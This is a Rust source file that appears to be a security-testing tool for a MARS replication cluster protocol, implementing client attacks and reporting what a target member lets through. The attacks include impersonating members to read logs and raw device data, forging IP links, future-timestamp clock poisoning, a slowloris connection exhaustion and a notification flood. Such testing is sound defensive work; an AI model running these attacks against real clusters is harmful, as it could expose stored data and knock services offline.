// SPDX-License-Identifier: GPL-2.0
//! Attacks as a client: the tool connects to a member and asks or pushes what it should not
//! get or change. Each returns the report of what the member let through.

use crate::conn::{address, now, Conn, Received};
use crate::handshake::{self, Identity, Outcome};
use crate::report::Report;
use crate::Options;
use mars_core::lamport::Stamp;
use mars_core::wire::{
    DigestAlg, ErrorCode, GetEnts, LogRead, LogTail, Message, PathList, PortRole, PushLink,
    SyncRead, SyncSumsRead, ANY_CLUSTER, MAX_DATA_CHUNK,
};
use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// Most bytes `read-log` and `read-sync` ask for before they stop (test devices are small).
const READ_CAP_BYTES: u64 = 64 << 20;

/// Connects to the target's port of `role` and does the handshake as `id`. `Err` carries the
/// report of a failure (connect error, refusal).
fn open(opts: &Options, id: &Identity, role: PortRole, report: &mut Report) -> Result<Conn, ()> {
    report.set(
        "auth",
        if id.secret.is_some() {
            "secret"
        } else {
            "none"
        },
    );
    let mut conn = match address(&opts.target, opts.port, role).and_then(Conn::connect) {
        Ok(conn) => conn,
        Err(e) => {
            report.set("welcome", "no").error("connect", &e);
            return Err(());
        }
    };
    match handshake::client(&mut conn, id, role, now()) {
        Ok(Outcome::Welcome {
            server_proof_ok, ..
        }) => {
            report.set("welcome", "yes");
            if let Some(ok) = server_proof_ok {
                report.set("server_proof", if ok { "ok" } else { "bad" });
            }
            Ok(conn)
        }
        Ok(Outcome::Refused(code)) => {
            report
                .set("welcome", "no")
                .set("refused", format!("{code:?}"));
            Err(())
        }
        Err(e) => {
            report.set("welcome", "no").error("handshake", &e);
            Err(())
        }
    }
}

/// `hello-any`: a `Hello` with the uuid `(any)`; reports what a `Welcome` revealed.
pub(crate) fn hello_any(opts: &Options) -> Report {
    let mut report = Report::default();
    let id = Identity {
        uuid: ANY_CLUSTER.to_string(),
        ..opts.identity()
    };
    let mut conn = match address(&opts.target, opts.port, PortRole::Meta).and_then(Conn::connect) {
        Ok(conn) => conn,
        Err(e) => {
            report.set("welcome", "no").error("connect", &e);
            return report;
        }
    };
    match handshake::client(&mut conn, &id, PortRole::Meta, now()) {
        Ok(Outcome::Welcome { uuid, host, .. }) => {
            report
                .set("welcome", "yes")
                .set("uuid", uuid)
                .set("host", host);
        }
        Ok(Outcome::Refused(code)) => {
            report
                .set("welcome", "no")
                .set("refused", format!("{code:?}"));
        }
        Err(e) => {
            report.set("welcome", "no").error("handshake", &e);
        }
    }
    report
}

/// Sends a `Ping` and waits for its `Pong`: everything sent before it was processed.
fn ping(conn: &mut Conn, tag: u64) -> io::Result<()> {
    conn.send(tag, &Message::Ping)?;
    let deadline = Instant::now() + Duration::from_secs(10);
    while Instant::now() < deadline {
        let frame = conn.recv()?;
        if matches!(frame.message(), Some(Message::Pong)) && frame.tag() == tag {
            return Ok(());
        }
    }
    Err(io::Error::new(io::ErrorKind::TimedOut, "no Pong"))
}

/// `push-ip-tombstone` and `push-ip`: a `PushLink` of `/mars/ips/ip-<victim>` with `value`
/// and a stamp newer than the victim's own link (a second ahead of real time), then a
/// `Notify`.
pub(crate) fn push_ip(opts: &Options, value: &str) -> Report {
    let mut report = Report::default();
    let path = format!("/mars/ips/ip-{}", opts.victim);
    report.set("path", &path).set("value", value);
    let Ok(mut conn) = open(opts, &opts.identity(), PortRole::Meta, &mut report) else {
        return report.set("pushed", "no").take();
    };
    let push = PushLink {
        path: &path,
        value,
        stamp: now().add_sec(1),
    };
    if let Err(e) = conn.send(0, &Message::PushLink(push)) {
        return report.set("pushed", "no").error("send", &e).take();
    }
    report.set("pushed", "yes");
    // A Notify asks the member for a strategy round now: it acts on the new link at once
    // (stops or starts its peer thread for the victim).
    if let Err(e) = conn.send(0, &Message::Notify) {
        return report.error("notify", &e).take();
    }
    // The Pong says the member read the push (and applied or ignored it) before we close.
    match ping(&mut conn, 2) {
        Ok(()) => report.set("pong", "yes"),
        Err(e) => report.set("pong", "no").error("ping", &e),
    };
    report
}

/// What one request got: a frame to look at, or the end of the exchange (recorded in the
/// report).
enum Reply {
    Frame(Received),
    Ended,
}

/// Sends `message` and waits for one answer; an IO error, an `Error` answer or an unexpected message ends the exchange and
/// is recorded in `report` (`error`, `answer`).
fn request(conn: &mut Conn, tag: u64, message: &Message<'_>, report: &mut Report) -> Reply {
    if let Err(e) = conn.send(tag, message) {
        report.error("send", &e);
        return Reply::Ended;
    }
    receive(conn, report)
}

/// Receives one answer as [`request`] does.
fn receive(conn: &mut Conn, report: &mut Report) -> Reply {
    let frame = match conn.recv() {
        Ok(frame) => frame,
        Err(e) => {
            report.error("recv", &e);
            return Reply::Ended;
        }
    };
    match frame.message() {
        Some(Message::Error(error)) => {
            report.set("answer", format!("{:?}", error.code));
            Reply::Ended
        }
        Some(_) => Reply::Frame(frame),
        None => {
            report.set("answer", "unexpected");
            Reply::Ended
        }
    }
}

/// `read-log RES LOGNAME`: `LogRead` of `/mars/resource-RES/LOGNAME` on the log port from
/// offset 0 until the end; counts the data bytes that arrive.
pub(crate) fn read_log(opts: &Options, resource: &str, logname: &str) -> Report {
    let mut report = Report::default();
    let path = format!("/mars/resource-{resource}/{logname}");
    let mut received: u64 = 0;
    if let Ok(mut conn) = open(opts, &opts.identity(), PortRole::Log, &mut report) {
        let mut tag = 1u64;
        while received < READ_CAP_BYTES {
            tag += 1;
            let read = Message::LogRead(LogRead {
                path: &path,
                offset: received,
                max_len: MAX_DATA_CHUNK as u32,
            });
            let Reply::Frame(frame) = request(&mut conn, tag, &read, &mut report) else {
                break;
            };
            let Some(Message::LogData(data)) = frame.message() else {
                report.set("answer", "unexpected");
                break;
            };
            received = received.saturating_add(data.data.len() as u64);
            if data.tail != LogTail::More || data.data.is_empty() {
                report.set("tail", format!("{:?}", data.tail));
                break;
            }
        }
    }
    report.set("bytes_received", received);
    report
}

/// `read-sync RES`: `SyncRead` of the first `--bytes` of RES's device on the sync port,
/// claiming to be `--as` (a member's name passes the server's membership test); counts the
/// bytes revealed (data, and ranges answered as all zeros).
pub(crate) fn read_sync(opts: &Options, resource: &str) -> Report {
    let mut report = Report::default();
    let mut received: u64 = 0;
    let mut offset: u64 = 0;
    let wanted = opts.bytes.min(READ_CAP_BYTES);
    if let Ok(mut conn) = open(opts, &opts.identity(), PortRole::Sync, &mut report) {
        let mut tag = 1u64;
        while offset < wanted {
            tag += 1;
            let len = (wanted - offset).min(MAX_DATA_CHUNK as u64) as u32;
            let read = Message::SyncRead(SyncRead {
                resource,
                offset,
                len,
            });
            let Reply::Frame(frame) = request(&mut conn, tag, &read, &mut report) else {
                break;
            };
            let Some(Message::SyncData(data)) = frame.message() else {
                report.set("answer", "unexpected");
                break;
            };
            received = received.saturating_add(u64::from(data.len));
            offset = offset.saturating_add(u64::from(len));
        }
    }
    report.set("bytes_received", received);
    report
}

/// `sums-not-agreed RES`: on one sync connection (whose `Hello` offered MD5_OLD and CRC32C
/// only), a `SyncSumsRead` of RES's first 16 blocks of 64 KiB with SHA1 and one with MD5,
/// digests the handshake did not agree. Counts the answers refused as `Unsupported`
/// (`unsupported`) and the digests received (`digests`); the connection must stay usable
/// (`usable`: a `Ping` after them is answered).
pub(crate) fn sums_not_agreed(opts: &Options, resource: &str) -> Report {
    let mut report = Report::default();
    let (mut unsupported, mut digests) = (0usize, 0usize);
    if let Ok(mut conn) = open(opts, &opts.identity(), PortRole::Sync, &mut report) {
        for (tag, alg) in [(2u64, DigestAlg::Sha1), (3, DigestAlg::Md5)] {
            let sums = Message::SyncSumsRead(SyncSumsRead {
                resource,
                offset: 0,
                block_size: 65536,
                count: 16,
                alg,
            });
            if let Err(e) = conn.send(tag, &sums) {
                report.error("send", &e);
                break;
            }
            match conn.recv() {
                Ok(frame) => match frame.message() {
                    Some(Message::Error(error)) if error.code == ErrorCode::Unsupported => {
                        unsupported += 1
                    }
                    Some(Message::SyncSums(s)) => digests += s.digests.len(),
                    Some(other) => {
                        report.set("answer", format!("{:?}", other.msg_type()));
                    }
                    None => {
                        report.set("answer", "unexpected");
                    }
                },
                Err(e) => {
                    report.error("recv", &e);
                    break;
                }
            }
        }
        let usable = conn.send(4, &Message::Ping).is_ok()
            && conn
                .recv()
                .is_ok_and(|frame| matches!(frame.message(), Some(Message::Pong)));
        report.set("usable", if usable { "yes" } else { "no" });
    }
    report.set("unsupported", unsupported);
    report.set("digests", digests);
    report
}

/// `get-ents DIR [DEPTH]`: one `GetEnts` of DIR (a canonical /mars path) on the metadata
/// port; counts the entries listed (`entries`) and those not beneath DIR (`outside`).
pub(crate) fn get_ents(opts: &Options, dir: &str, depth: u8) -> Report {
    let mut report = Report::default();
    let (mut entries, mut outside) = (0usize, 0usize);
    if let Ok(mut conn) = open(opts, &opts.identity(), PortRole::Meta, &mut report) {
        let dirs = [dir];
        let get = Message::GetEnts(GetEnts {
            depth,
            dirs: PathList::from_slice(&dirs),
        });
        let mut reply = request(&mut conn, 2, &get, &mut report);
        let beneath = format!("{}/", dir.trim_end_matches('/'));
        while let Reply::Frame(frame) = reply {
            let Some(Message::Dents(batch)) = frame.message() else {
                report.set("answer", "unexpected");
                break;
            };
            for dent in batch.entries.iter() {
                entries += 1;
                if !dent.path.starts_with(&beneath) {
                    outside += 1;
                }
            }
            if !batch.more {
                report.set("answer", "Dents");
                break;
            }
            reply = receive(&mut conn, &mut report);
        }
    }
    report.set("entries", entries).set("outside", outside);
    report
}

/// `slowloris N`: N connections to the metadata port, each sent one more byte of a `Hello`
/// every second for `--seconds`; reports how many the member still held open at the end.
pub(crate) fn slowloris(opts: &Options, count: usize) -> Report {
    let mut report = Report::default();
    let mut hello = vec![0u8; 512];
    let id = opts.identity();
    let hello_len = mars_core::wire::encode_frame(
        &mut hello,
        now(),
        1,
        &Message::Hello(mars_core::wire::Hello {
            min_version: mars_core::wire::MIN_PROTOCOL_VERSION,
            max_version: mars_core::wire::MAX_PROTOCOL_VERSION,
            role: PortRole::Meta,
            features: mars_core::wire::FEATURE_DIGEST_MD5_OLD,
            cluster_uuid: &id.uuid,
            host: &id.host,
            client_nonce: [0x5a; mars_core::auth::NONCE_LEN],
        }),
    )
    .unwrap_or(0);
    hello.truncate(hello_len);
    let addr = match address(&opts.target, opts.port, PortRole::Meta) {
        Ok(addr) => addr,
        Err(e) => return report.error("address", &e).take(),
    };
    let mut streams: Vec<Option<TcpStream>> = Vec::new();
    for _ in 0..count {
        let stream = TcpStream::connect_timeout(&addr, crate::conn::IO_TIMEOUT).ok();
        if let Some(stream) = &stream {
            let _ = stream.set_write_timeout(Some(Duration::from_millis(200)));
            let _ = stream.set_nonblocking(true);
        }
        streams.push(stream);
    }
    report.set("opened", streams.iter().filter(|s| s.is_some()).count());
    let end = Instant::now() + Duration::from_secs(opts.seconds);
    let mut sent = 0usize;
    while Instant::now() < end {
        let byte = hello.get(sent % hello.len().max(1)).copied().unwrap_or(0);
        for slot in streams.iter_mut() {
            if let Some(stream) = slot {
                let mut peek = [0u8; 64];
                let closed = matches!(stream.read(&mut peek), Ok(0))
                    || matches!(stream.write(&[byte]), Err(ref e) if e.kind() != io::ErrorKind::WouldBlock);
                if closed {
                    *slot = None;
                }
            }
        }
        sent += 1;
        std::thread::sleep(Duration::from_secs(1));
    }
    report.set("bytes_each", sent);
    report.set(
        "alive_at_end",
        streams.iter().filter(|s| s.is_some()).count(),
    );
    report
}

/// `notify-flood N`: N `Notify` frames after the handshake, then a `Ping`.
pub(crate) fn notify_flood(opts: &Options, count: usize) -> Report {
    let mut report = Report::default();
    let mut sent = 0usize;
    if let Ok(mut conn) = open(opts, &opts.identity(), PortRole::Meta, &mut report) {
        for _ in 0..count {
            if let Err(e) = conn.send(0, &Message::Notify) {
                report.error("send", &e);
                break;
            }
            sent += 1;
        }
        match ping(&mut conn, 2) {
            Ok(()) => report.set("pong", "yes"),
            Err(e) => report.set("pong", "no").error("ping", &e),
        };
    }
    report.set("sent", sent);
    report
}

/// `future-stamp`: a `Hello` stamped `--days` ahead of real time and, if welcomed, a `Ping`
/// stamped the same (every frame's stamp feeds the receiver's Lamport clock).
pub(crate) fn future_stamp(opts: &Options) -> Report {
    let mut report = Report::default();
    let stamp: Stamp = now().add_sec(opts.days.saturating_mul(24 * 3600));
    report.set("stamp_sec", stamp.sec);
    let id = opts.identity();
    let mut conn = match address(&opts.target, opts.port, PortRole::Meta).and_then(Conn::connect) {
        Ok(conn) => conn,
        Err(e) => return report.set("welcome", "no").error("connect", &e).take(),
    };
    match handshake::client(&mut conn, &id, PortRole::Meta, stamp) {
        Ok(Outcome::Welcome { .. }) => {
            report.set("welcome", "yes");
            let pinged = conn
                .send_stamped(stamp, 2, &Message::Ping)
                .and_then(|()| conn.recv().map(|_| ()));
            report.set("pong", if pinged.is_ok() { "yes" } else { "no" });
        }
        Ok(Outcome::Refused(code)) => {
            report
                .set("welcome", "no")
                .set("refused", format!("{code:?}"));
        }
        Err(e) => {
            report.set("welcome", "no").error("handshake", &e);
        }
    }
    let _ = conn.stream.flush();
    report
}
